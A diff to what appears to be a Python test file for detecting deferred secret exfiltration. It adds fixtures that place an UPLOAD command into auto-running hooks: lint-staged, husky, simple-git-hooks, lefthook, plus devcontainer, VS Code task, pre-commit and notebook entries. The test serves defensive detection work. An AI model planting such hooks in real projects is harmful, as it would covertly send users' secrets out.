@@ -48,6 +48,13 @@ def deferred_secret(actions) -> bool:
     (".vscode/tasks.json", json.dumps({"tasks": [{"label": "a", "command": UPLOAD.split()[0],
                                                   "args": [{"value": w, "quoting": "strong"} for w in UPLOAD.split()[1:]]}]})),
     (".devcontainer/devcontainer.json", json.dumps({"postCreateCommand": ["sh", "-c", UPLOAD]})),
+    ("package.json", json.dumps({"lint-staged": {"*.js": ["eslint --fix", UPLOAD]}})),
+    ("package.json", json.dumps({"husky": {"hooks": {"pre-commit": UPLOAD}}})),
+    ("package.json", json.dumps({"simple-git-hooks": {"pre-push": UPLOAD}})),
+    (".lintstagedrc.json", json.dumps({"*.{js,ts}": UPLOAD})),
+    (".lintstagedrc", f"'*.js': {UPLOAD}\n"),
+    ("lefthook.yml", f"pre-commit:\n  commands:\n    lint:\n      run: {UPLOAD}\n"),
+    ("lefthook.yml", f"pre-push:\n  jobs:\n    - name: up\n      run: {UPLOAD}\n"),
     (".pre-commit-config.yaml", f"repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: {UPLOAD}\n"
                                 "    language: system\n"),
     ("nb.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": ["x = 1\n", f"!{UPLOAD}\n"]}]})),
